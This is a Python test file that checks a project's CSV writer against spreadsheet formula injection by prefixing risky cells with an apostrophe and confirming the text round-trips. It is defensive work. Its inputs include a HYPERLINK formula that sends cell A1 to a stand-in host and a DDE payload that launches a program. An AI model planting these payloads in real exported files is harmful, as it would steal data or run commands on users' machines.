"""No table that is written runs in a spreadsheet, and each gives back the text that went in."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from trifold.commands.check import write_findings
from trifold.contracts import Finding
from trifold.tables.guard import guarded, unguarded
from trifold.tables.reading import read_table
from trifold.tables.writing import as_written, write_csv

RUN = "=+-@\uff1d\uff0b\uff0d\uff20"
STRIPPED = " \t\r\n\u00a0\u3000\u200b\ufeff\"'"  # by some programs, before they look for a formula
FORMULA = '=HYPERLINK("http://x/?"&A1,"ann")'


@given(st.text(STRIPPED, max_size=4), st.sampled_from(RUN), st.text(max_size=5))
@example("", "=", "1+1")
@example("\t", "=", "")
@example("\r", "@", "SUM(1)")
def test_whatever_may_run_has_an_apostrophe_and_comes_back(before, sign, rest) -> None:
    text = before + sign + rest
    assert guarded(text).startswith("'")
    assert unguarded(guarded(text)) == text


@given(st.text())
def test_all_text_comes_back(text: str) -> None:
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", [FORMULA, "+cmd|' /C calc'!A0", "@SUM(1)", "-1+1", " =1", "\t=1"])
def test_frames_of_every_command_are_guarded_and_come_back(tmp_path: Path, text: str) -> None:
    frame = pd.DataFrame({"candidate_id": [text, "ann"], text: [1.5, -2.5]})
    path = write_csv(frame, tmp_path / "t.csv")
    with path.open(encoding="utf-8", newline="") as file:
        header, first, second = csv.reader(file)
    assert (header, first) == (["candidate_id", f"'{text}"], [f"'{text}", "1.5"])
    assert second == ["ann", "-2.5"]  # a number is no formula
    assert as_written(pd.read_csv(path)).equals(frame)
    assert read_table(path).cells("candidate_id") == [text, "ann"]


def test_findings_of_a_corpus_are_guarded(tmp_path: Path) -> None:
    found = Finding("missing_media", 1, 2, "answers", examples=(FORMULA,))
    path = write_findings([found], tmp_path / "found.csv")
    assert read_table(path).cells("examples") == [FORMULA]
    assert f"\"'{FORMULA[:11]}" in path.read_text(encoding="utf-8")


SOURCES = sorted((Path(__file__).parents[2] / "src/trifold").rglob("*.py"))


def test_no_command_writes_a_frame_past_the_guard() -> None:
    ours = [p for p in SOURCES if "corpora" not in p.parts and p.name != "writing.py"]
    past = {p.name for p in ours if ".to_csv(" in p.read_text(encoding="utf-8")}
    assert past == {"make.py", "run_folder.py"}  # invented judgements; losses by epoch
